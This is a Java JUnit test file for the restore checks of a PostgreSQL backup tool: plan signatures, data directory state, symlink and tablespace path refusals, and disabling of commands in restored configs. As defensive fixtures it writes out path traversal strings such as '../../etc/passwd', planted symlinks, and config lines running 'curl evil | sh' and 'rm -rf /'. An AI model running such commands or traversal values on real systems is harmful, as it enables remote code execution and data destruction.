package io.tidemark.shim.restore;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tidemark.events.backup.ManifestTablespace;
import io.tidemark.events.layout.Compression;
import io.tidemark.events.layout.StanzaName;
import io.tidemark.events.plan.RestorePlan;
import io.tidemark.events.sign.EcKeys;
import io.tidemark.events.sign.LocalSigner;
import io.tidemark.events.sign.SignedEnvelope;
import io.tidemark.shim.support.PlanFixture;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Everything restore checks before it writes: plan, data directory, paths. */
@Tag("unit")
class RestoreChecksTest {
    private static final String ID = "22222222-0000-4000-8000-000000000001";
    private static final StanzaName MAIN = StanzaName.of("main");

    @TempDir
    Path dir;

    private static PlanFixture fixture() {
        return new PlanFixture("main", null)
                .file("base/1/1259", "a".repeat(100).getBytes(), Compression.ZSTD)
                .file("global/pg_control", new byte[64], Compression.NONE)
                .directory("base").directory("base/1").directory("global");
    }

    private static RestoreRefused refused(Runnable r) {
        return assertThrows(RestoreRefused.class, r::run);
    }

    // ------------------------------------------------------------ the plan

    @Test
    void aValidPlanPasses() {
        RestorePlan p = PlanVerifier.verify(fixture().envelope(ID), PlanFixture.KEYS.getPublic(), MAIN, Instant.now());
        assertEquals(ID, p.planId());
    }

    @Test
    void oneChangedByteBreaksTheSignature() {
        ObjectNode env = fixture().envelope(ID);
        ObjectNode file = (ObjectNode) env.get("document").get("files").get(0);
        file.put("size", file.get("size").asLong() + 1);
        RestoreRefused e = refused(() -> PlanVerifier.verify(env, PlanFixture.KEYS.getPublic(), MAIN, Instant.now()));
        assertTrue(e.getMessage().startsWith("restore plan signature does not match"), e.getMessage());

        ObjectNode other = fixture().envelope(ID);
        RestoreRefused k = refused(() -> PlanVerifier.verify(other, EcKeys.generate().getPublic(), MAIN, Instant.now()));
        assertTrue(k.getMessage().contains("signature does not match"), k.getMessage());
    }

    @Test
    void expiredPlanAndOtherStanzaAreRefused() {
        PlanFixture f = fixture();
        f.createdAt = Instant.parse("2026-01-01T00:00:00Z");
        f.expiresAt = Instant.parse("2026-01-01T01:00:00Z");
        RestoreRefused e = refused(() -> PlanVerifier.verify(f.envelope(ID), PlanFixture.KEYS.getPublic(), MAIN,
                Instant.parse("2026-01-01T01:00:00Z")));
        assertTrue(e.getMessage().contains("expired at 2026-01-01T01:00:00Z"), e.getMessage());

        RestoreRefused s = refused(() -> PlanVerifier.verify(fixture().envelope(ID), PlanFixture.KEYS.getPublic(),
                StanzaName.of("other"), Instant.now()));
        assertTrue(s.getMessage().contains("is for stanza 'main', not 'other'"), s.getMessage());
    }

    @Test
    void aSignedPlanWithDotDotOrAnAbsolutePathIsRefused() {
        for (String bad : List.of("../../etc/passwd", "base/../../x", "/etc/passwd")) {
            ObjectNode doc = (ObjectNode) fixture().envelope(ID).get("document");
            ((ObjectNode) doc.get("files").get(0)).put("path", bad);
            ObjectNode env = SignedEnvelope.sign(doc, new LocalSigner(PlanFixture.KEYS));
            RestoreRefused e = refused(() -> PlanVerifier.verify(env, PlanFixture.KEYS.getPublic(), MAIN, Instant.now()));
            assertTrue(e.getMessage().contains("unsafe path refused") && e.getMessage().contains("/files/0/path"), e.getMessage());
        }
    }

    // ------------------------------------------------------------ the data directory

    private static void pgControl(Path pgdata, long sysid) throws IOException {
        Files.createDirectories(pgdata.resolve("global"));
        Files.write(pgdata.resolve("global/pg_control"),
                ByteBuffer.allocate(8192).order(ByteOrder.nativeOrder()).putLong(sysid).array());
    }

    @Test
    void anInterruptedRestoreIsNamedAndDeltaLetsItContinue() throws IOException {
        RestorePlan plan = fixture().plan(ID);
        Path pgdata = dir.resolve("half");
        // what a restore killed mid-download leaves: files, a temp file, no global/pg_control (written last)
        Files.createDirectories(pgdata.resolve("base/5"));
        Files.writeString(pgdata.resolve("PG_VERSION"), "15\n");
        Files.write(pgdata.resolve("base/5/.16384.tidemark.tmp"), new byte[100]);
        RestoreRefused half = refused(() -> DataDirCheck.check(pgdata, plan, false));
        assertTrue(half.getMessage().contains("holds an incomplete restore") && half.getMessage().contains("with --delta"),
                half.getMessage());
        DataDirCheck.check(pgdata, plan, true);
    }

    @Test
    void anotherClusterARunningClusterAndANonEmptyDirectoryAreRefused() throws IOException {
        RestorePlan plan = fixture().plan(ID);
        Path pgdata = dir.resolve("pgdata");
        DataDirCheck.check(pgdata, plan, false); // missing: fine
        Files.createDirectories(pgdata);
        DataDirCheck.check(pgdata, plan, false); // empty: fine

        pgControl(pgdata, 42);
        RestoreRefused other = refused(() -> DataDirCheck.check(pgdata, plan, true));
        assertTrue(other.getMessage().contains("another cluster (system identifier 42)"), other.getMessage());

        pgControl(pgdata, Long.parseUnsignedLong(PlanFixture.SYSID));
        RestoreRefused full = refused(() -> DataDirCheck.check(pgdata, plan, false));
        assertTrue(full.getMessage().contains("is not empty") && full.getMessage().contains("--delta"), full.getMessage());
        DataDirCheck.check(pgdata, plan, true);

        Files.writeString(pgdata.resolve("postmaster.pid"), ProcessHandle.current().pid() + "\n" + pgdata + "\n");
        RestoreRefused running = refused(() -> DataDirCheck.check(pgdata, plan, true));
        assertTrue(running.getMessage().contains("PostgreSQL is running"), running.getMessage());
        Files.writeString(pgdata.resolve("postmaster.pid"), "999999999\n");
        DataDirCheck.check(pgdata, plan, true); // a stale pid file
    }

    // ------------------------------------------------------------ paths

    @Test
    void aSymlinkPlantedInPgdataIsRefusedAndNothingIsWrittenOutside() throws IOException {
        Path pgdata = Files.createDirectories(dir.resolve("pgdata"));
        Path outside = Files.createDirectories(dir.resolve("outside"));
        Files.createSymbolicLink(pgdata.resolve("base"), outside);
        RestoreRefused e = refused(() -> RestoreCommand.prepare(fixture().plan(ID), pgdata, Map.of(), true));
        assertTrue(e.getMessage().contains("base/1") && e.getMessage().contains("is a symbolic link")
                && e.getMessage().contains(outside.toString()), e.getMessage());
        try (Stream<Path> s = Files.list(outside)) {
            assertEquals(0, s.count());
        }
        // the file itself as a link
        Files.delete(pgdata.resolve("base"));
        Files.createDirectories(pgdata.resolve("base/1"));
        Files.createSymbolicLink(pgdata.resolve("base/1/1259"), outside.resolve("victim"));
        RestoreRefused f = refused(() -> RestoreCommand.prepare(fixture().plan(ID), pgdata, Map.of(), true));
        assertTrue(f.getMessage().contains("base/1/1259"), f.getMessage());
    }

    @Test
    void tablespaceTricksAreRefused() throws IOException {
        Path pgdata = dir.resolve("pgdata");
        PlanFixture f = fixture();
        f.tablespaces.add(new ManifestTablespace(16400, "ts", dir.resolve("ts").toString()));
        f.file("pg_tblspc/16400/PG_15_202209061/1/2", new byte[10], Compression.NONE);
        Map<Long, Path> mapped = Map.of(16400L, dir.resolve("ts"));
        RestoreCommand.Prepared ok = RestoreCommand.prepare(f.plan(ID), pgdata, mapped, false);
        assertEquals(dir.resolve("ts/PG_15_202209061/1/2"), ok.files().get(2).target());

        // a file beside the version directory, and a file where the link goes
        PlanFixture beside = fixture();
        beside.tablespaces.add(new ManifestTablespace(16400, "ts", dir.resolve("ts").toString()));
        beside.file("pg_tblspc/16400/evil", new byte[1], Compression.NONE);
        assertTrue(refused(() -> RestoreCommand.prepare(beside.plan(ID), pgdata, mapped, false)).getMessage()
                .contains("PG_<version>_<catalog>"));
        PlanFixture onLink = fixture();
        onLink.tablespaces.add(new ManifestTablespace(16400, "ts", dir.resolve("ts").toString()));
        onLink.file("pg_tblspc/16400", new byte[1], Compression.NONE);
        assertTrue(refused(() -> RestoreCommand.prepare(onLink.plan(ID), pgdata, mapped, false)).getMessage()
                .contains("is the link of tablespace 16400"));

        // locations: not normalized, root, inside PGDATA, overlapping, unknown override
        for (String loc : List.of(dir + "/x/../../etc", "/", pgdata + "/base", pgdata.toString(), dir.toString())) {
            PlanFixture t = fixture();
            t.tablespaces.add(new ManifestTablespace(16400, "ts", loc));
            RestoreRefused e = refused(() -> RestoreCommand.prepare(t.plan(ID), pgdata, Map.of(), false));
            assertTrue(e.getMessage().contains("tablespace 16400 location"), e.getMessage());
        }
        PlanFixture two = fixture();
        two.tablespaces.add(new ManifestTablespace(16400, "a", dir.resolve("ts").toString()));
        two.tablespaces.add(new ManifestTablespace(16401, "b", dir.resolve("ts/inner").toString()));
        assertTrue(refused(() -> RestoreCommand.prepare(two.plan(ID), pgdata, Map.of(), false)).getMessage()
                .contains("would share a directory"));
        assertTrue(refused(() -> RestoreCommand.prepare(f.plan(ID), pgdata, Map.of(999L, dir.resolve("z")), false))
                .getMessage().contains("--tablespace-map 999: the plan has no tablespace 999"));

        // a link planted inside the tablespace's version directory
        Path outside = Files.createDirectories(dir.resolve("outside"));
        Files.createDirectories(dir.resolve("ts/PG_15_202209061"));
        Files.createSymbolicLink(dir.resolve("ts/PG_15_202209061/1"), outside);
        RestoreRefused planted = refused(() -> RestoreCommand.prepare(f.plan(ID), pgdata, mapped, true));
        assertTrue(planted.getMessage().contains("is a symbolic link"), planted.getMessage());
        try (Stream<Path> s = Files.list(outside)) {
            assertEquals(0, s.count());
        }
        assertFalse(Files.exists(pgdata), "nothing written by the checks");
    }

    @Test
    void aTablespaceLocationFromTheManifestIsUsedOnlyWhenMappedOrAlreadyThisClustersLink() throws IOException {
        Path pgdata = dir.resolve("pgdata");
        Path sourceLocation = dir.resolve("etc-cron.d"); // where the (compromised) source says the tablespace lived
        PlanFixture f = fixture();
        f.tablespaces.add(new ManifestTablespace(16400, "fast", sourceLocation.toString()));
        f.tablespaces.add(new ManifestTablespace(16401, "slow", dir.resolve("slow").toString()));
        f.file("pg_tblspc/16400/PG_15_202209061/1/2", new byte[10], Compression.NONE);
        RestoreRefused fresh = refused(() -> RestoreCommand.prepare(f.plan(ID), pgdata, Map.of(), false));
        assertTrue(fresh.getMessage().contains("--tablespace-map 16400=DIR (tablespace fast, at " + sourceLocation)
                && fresh.getMessage().contains("--tablespace-map 16401=DIR (tablespace slow"), fresh.getMessage());
        RestoreRefused half = refused(() -> RestoreCommand.prepare(f.plan(ID), pgdata,
                Map.of(16401L, dir.resolve("mine")), false));
        assertTrue(half.getMessage().contains("16400=DIR") && !half.getMessage().contains("16401=DIR"), half.getMessage());
        assertEquals(dir.resolve("ts-here/PG_15_202209061/1/2"), RestoreCommand.prepare(f.plan(ID), pgdata,
                Map.of(16400L, dir.resolve("ts-here"), 16401L, dir.resolve("mine")), false).files().get(2).target());

        // --delta into this cluster: a link that already points at the manifest's location shows this host took the backup
        pgControl(pgdata, Long.parseUnsignedLong(PlanFixture.SYSID));
        Files.createDirectories(pgdata.resolve("pg_tblspc"));
        Files.createSymbolicLink(pgdata.resolve("pg_tblspc/16400"), dir.resolve("ts-here"));
        Files.createSymbolicLink(pgdata.resolve("pg_tblspc/16401"), dir.resolve("slow"));
        RestoreRefused elsewhere = refused(() -> RestoreCommand.prepare(f.plan(ID), pgdata, Map.of(), true));
        assertTrue(elsewhere.getMessage().contains("16400=DIR") && !elsewhere.getMessage().contains("16401=DIR"),
                elsewhere.getMessage());
        Files.delete(pgdata.resolve("pg_tblspc/16400"));
        Files.createSymbolicLink(pgdata.resolve("pg_tblspc/16400"), sourceLocation);
        assertEquals(sourceLocation.resolve("PG_15_202209061/1/2"),
                RestoreCommand.prepare(f.plan(ID), pgdata, Map.of(), true).files().get(2).target());
        // the same links in a directory of another cluster prove nothing
        pgControl(pgdata, 42);
        refused(() -> RestoreCommand.prepare(f.plan(ID), pgdata, Map.of(), true));
        assertFalse(Files.exists(sourceLocation), "nothing written by the checks");
    }

    // ------------------------------------------------------------ restored configuration

    @Test
    void commandsInTheRestoredConfigurationAndWhatItIncludesAreCommentedOut() throws IOException {
        Path pgdata = Files.createDirectories(dir.resolve("pgdata"));
        Path ts = Files.createDirectories(dir.resolve("ts"));
        Path hosts = Files.createDirectories(dir.resolve("host-etc"));
        Files.writeString(hosts.resolve("host.conf"), "archive_command = 'the restore host''s own'\n");
        Files.createDirectories(pgdata.resolve("conf.d"));
        Files.writeString(pgdata.resolve("postgresql.conf"), "port = 5432\n  Archive_Command='touch /tmp/x' # comment\n"
                + "#restore_command = 'a comment already'\ninclude 'extra.conf'\ninclude_dir = 'conf.d'\n"
                + "include_if_exists '" + hosts.resolve("host.conf") + "'\ninclude '" + ts.resolve("PG_15_1/t.conf") + "'\n");
        Files.writeString(pgdata.resolve("extra.conf"), "ssl_passphrase_command 'cat /x'\nwork_mem = '4MB'\n");
        Files.writeString(pgdata.resolve("conf.d/a.conf"), "archive_library = 'evil'\nrecovery_end_command='rm -rf /'\n");
        Files.writeString(pgdata.resolve("conf.d/.hidden.conf"), "archive_command = 'skipped by PostgreSQL'\n");
        Files.createDirectories(ts.resolve("PG_15_1"));
        Files.writeString(ts.resolve("PG_15_1/t.conf"), "archive_cleanup_command = 'x'\n");
        Files.writeString(pgdata.resolve("postgresql.auto.conf"), "# Do not edit this file manually!\n"
                + "archive_command = 'sh -c \"curl evil | sh\"'\nrestore_command = 'cp /old/%f %p'\n");

        List<ConfigCommands.Found> kept = ConfigCommands.disable(pgdata, List.of(pgdata, ts), true);
        // postgresql.conf, postgresql.auto.conf, then what they include, in order
        // (auto.conf's restore_command is not listed: restore replaces it with its own)
        assertEquals(List.of("archive_command", "archive_command", "ssl_passphrase_command",
                "archive_library", "recovery_end_command", "archive_cleanup_command"),
                kept.stream().map(ConfigCommands.Found::setting).toList());
        assertTrue(Files.readString(pgdata.resolve("postgresql.conf")).contains("\n  Archive_Command='touch /tmp/x'"),
                "--keep-config-commands changes nothing");

        List<ConfigCommands.Found> found = ConfigCommands.disable(pgdata, List.of(pgdata, ts), false);
        assertEquals(kept, found);
        String conf = Files.readString(pgdata.resolve("postgresql.conf"));
        assertTrue(conf.startsWith("port = 5432\n" + ConfigCommands.MARK + "  Archive_Command='touch /tmp/x' # comment\n"
                + "#restore_command = 'a comment already'\ninclude 'extra.conf'\n"), conf);
        assertTrue(Files.readString(pgdata.resolve("extra.conf")).contains("\nwork_mem = '4MB'"), "other settings stay");
        for (Path p : List.of(pgdata.resolve("postgresql.conf"), pgdata.resolve("extra.conf"), pgdata.resolve("conf.d/a.conf"),
                ts.resolve("PG_15_1/t.conf"), pgdata.resolve("postgresql.auto.conf"))) {
            for (String line : Files.readString(p).split("\n")) {
                assertTrue(line.isBlank() || line.startsWith("#") || line.startsWith("port") || line.startsWith("work_mem")
                        || line.startsWith("include") || line.equals("restore_command = 'cp /old/%f %p'"), p + ": " + line);
            }
        }
        assertEquals("archive_command = 'the restore host''s own'\n", Files.readString(hosts.resolve("host.conf")),
                "a file of the restore host is never changed");
        assertEquals("archive_command = 'skipped by PostgreSQL'\n", Files.readString(pgdata.resolve("conf.d/.hidden.conf")));
        assertTrue(ConfigCommands.disable(pgdata, List.of(pgdata, ts), false).isEmpty(), "a second pass finds nothing");
        assertEquals(java.util.Optional.of("it's"), ConfigCommands.value(" 'it''s' # c"));
        assertEquals(java.util.Optional.of("a.conf"), ConfigCommands.value("a.conf # c"));
    }

    @Test
    void anIncludedFileThatIsNotTextIsReadAndKeptByteForByte() throws IOException {
        Path pgdata = Files.createDirectories(dir.resolve("pgdata"));
        Files.writeString(pgdata.resolve("postgresql.conf"), "include 'global.bin'\n");
        byte[] binary = {(byte) 0xff, (byte) 0xfe, '\n', 'a', 'r', 'c', 'h', 'i', 'v', 'e', '_', 'l', 'i', 'b', 'r', 'a', 'r', 'y',
                '=', 'x', '\n', (byte) 0xc3, (byte) 0x28};
        Files.write(pgdata.resolve("global.bin"), binary);
        List<ConfigCommands.Found> found = ConfigCommands.disable(pgdata, List.of(pgdata), false);
        assertEquals(List.of("archive_library"), found.stream().map(ConfigCommands.Found::setting).toList());
        byte[] after = Files.readAllBytes(pgdata.resolve("global.bin"));
        assertEquals((byte) 0xff, after[0]);
        assertEquals((byte) 0x28, after[after.length - 1], "other bytes unchanged");
    }

    // ------------------------------------------------------------ recovery settings

    @Test
    void autoConfKeepsOtherSettingsAndReplacesRecoveryOnes() {
        String existing = "# Do not edit this file manually!\nwork_mem = '64MB'\nRecovery_Target_Time = 'x'\n"
                + "restore_command='cp %f %p'\nrecovery_target_inclusive off\nprimary_conninfo = 'host=a'\n\n";
        String out = RecoveryConfig.rewrite(existing, Map.of("recovery_target_xid", "1234", "recovery_target_timeline", "latest"),
                "/opt/tidemark/bin/tidemark archive-get --config /etc/t.conf --stanza main %f %p", "written by test");
        assertEquals("# Do not edit this file manually!\nwork_mem = '64MB'\nprimary_conninfo = 'host=a'\n# written by test\n"
                + "restore_command = '/opt/tidemark/bin/tidemark archive-get --config /etc/t.conf --stanza main %f %p'\n"
                + "recovery_target_timeline = 'latest'\nrecovery_target_xid = '1234'\n", out);
        assertEquals("'/my dir/it''s'", RecoveryConfig.shellQuote("/my dir/it's").replace("'\\''", "''"));
        assertEquals("/a/100%%/b", RecoveryConfig.shellQuote("/a/100%/b"));
        assertTrue(RecoveryConfig.restoreCommand("tidemark", Path.of("/e/t.conf"), MAIN, Path.of("/d/tidemark-restore-plan.json"))
                .endsWith("--stanza main --plan /d/tidemark-restore-plan.json %f %p"));
    }

    // ------------------------------------------------------------ delta

    @Test
    void deltaKeepsOnlyAMatchingRegularFile() throws IOException {
        PlanFixture f = fixture();
        var file = f.files.get(0);
        Path t = dir.resolve("1259");
        assertEquals(Delta.Decision.FETCH, Delta.decide(t, file));
        Files.write(t, f.contents.get("base/1/1259"));
        assertEquals(Delta.Decision.KEEP, Delta.decide(t, file));
        byte[] same = f.contents.get("base/1/1259").clone();
        same[5] = 'b';
        Files.write(t, same);
        assertEquals(Delta.Decision.FETCH, Delta.decide(t, file), "same size, other content");
        Files.delete(t);
        Files.createDirectories(t.resolve("sub"));
        assertEquals(Delta.Decision.FETCH, Delta.decide(t, file));
        assertFalse(Files.exists(t), "a directory in the way is removed");
        Files.createSymbolicLink(t, dir.resolve("elsewhere"));
        assertThrows(RestoreRefused.class, () -> Delta.decide(t, file));
    }

    @Test
    void deltaComparesABlockMappedFileByItsBlockDigestOrAnOlderBackupsWholeSha256() throws IOException {
        int bs = io.tidemark.events.backup.BlockMap.MIN_BLOCK;
        byte[] content = new byte[2 * bs + 300];
        new java.util.Random(5).nextBytes(content);
        Path t = Files.write(dir.resolve("16384"), content);
        List<String> shas = List.of(sha256Hex(content, 0, bs), sha256Hex(content, bs, bs),
                sha256Hex(content, 2 * bs, 300));
        List<io.tidemark.events.plan.PlanBlocks.Block> blocks = new java.util.ArrayList<>();
        for (String sha : shas) {
            blocks.add(new io.tidemark.events.plan.PlanBlocks.Block(io.tidemark.events.layout.BackupLabelName.parse("20261121-060000F"),
                    "k", null, 0, 1, sha));
        }
        var map = java.util.Optional.of(new io.tidemark.events.plan.PlanBlocks(bs, blocks));
        String digest = io.tidemark.events.backup.BlockDigest.of(content.length, bs, shas);
        String whole = sha256Hex(content, 0, content.length);
        var byBlocks = blockFile(content.length, digest, map);
        var older = blockFile(content.length, whole, map);
        assertTrue(byBlocks.digestByBlocks() && !older.digestByBlocks());
        assertEquals(Delta.Decision.KEEP, Delta.decide(t, byBlocks), "format 3: the block digest");
        assertEquals(Delta.Decision.KEEP, Delta.decide(t, older), "format 2: the whole content's SHA-256");
        content[bs + 1] ^= 1;
        Files.write(t, content);
        assertEquals(Delta.Decision.FETCH, Delta.decide(t, byBlocks), "one bit changed in block 1");
        assertEquals(Delta.Decision.FETCH, Delta.decide(t, older));
    }

    private static String sha256Hex(byte[] b, int off, int len) {
        var d = Downloader.sha256();
        d.update(b, off, len);
        return java.util.HexFormat.of().formatHex(d.digest());
    }

    private static io.tidemark.events.plan.PlanFile blockFile(long size, String sha,
                                                             java.util.Optional<io.tidemark.events.plan.PlanBlocks> map) {
        return new io.tidemark.events.plan.PlanFile(io.tidemark.events.paths.SafeRelativePath.of("base/1/16384"), size, sha,
                io.tidemark.events.layout.BackupLabelName.parse("20261121-060000F"), "k", Compression.ZSTD, false, 0, 1,
                "0".repeat(64), null, map);
    }

    @Test
    void deltaListsWhatTheBackupDoesNotHave() throws IOException {
        Path root = Files.createDirectories(dir.resolve("pgdata"));
        Files.createDirectories(root.resolve("base/1"));
        Files.writeString(root.resolve("base/1/1259"), "x");
        Files.writeString(root.resolve("base/1/extra"), "x");
        Files.createDirectories(root.resolve("junk/deep"));
        Files.createSymbolicLink(root.resolve("link"), dir);
        List<Path> u = Delta.unexpected(root, java.util.Set.of(root.resolve("base"), root.resolve("base/1"),
                root.resolve("base/1/1259")));
        assertEquals(java.util.Set.of(root.resolve("base/1/extra"), root.resolve("junk"), root.resolve("link")),
                java.util.Set.copyOf(u));
    }

    @Test
    void optionsAreChecked() {
        assertEquals(Map.of(16400L, Path.of("/ts")), RestoreCommand.tablespaceMap(List.of("16400=/ts")));
        assertThrows(io.tidemark.shim.cli.UsageException.class, () -> RestoreCommand.tablespaceMap(List.of("x")));
        assertThrows(io.tidemark.shim.cli.UsageException.class, () -> RestoreCommand.tablespaceMap(List.of("1=rel")));
        assertThrows(io.tidemark.shim.cli.UsageException.class,
                () -> RestoreCommand.tablespaceMap(List.of("16400=/a", "16400=/b")), "the same OID twice");
        assertEquals("{\"target\":{\"type\":\"latest\",\"value\":null},\"exclusive\":false,\"timeline\":\"latest\","
                + "\"action\":\"promote\",\"backup\":null}", RestoreCommand.requestBody(
                io.tidemark.events.plan.RecoveryRequest.latest(), java.util.Optional.empty()));
    }
}
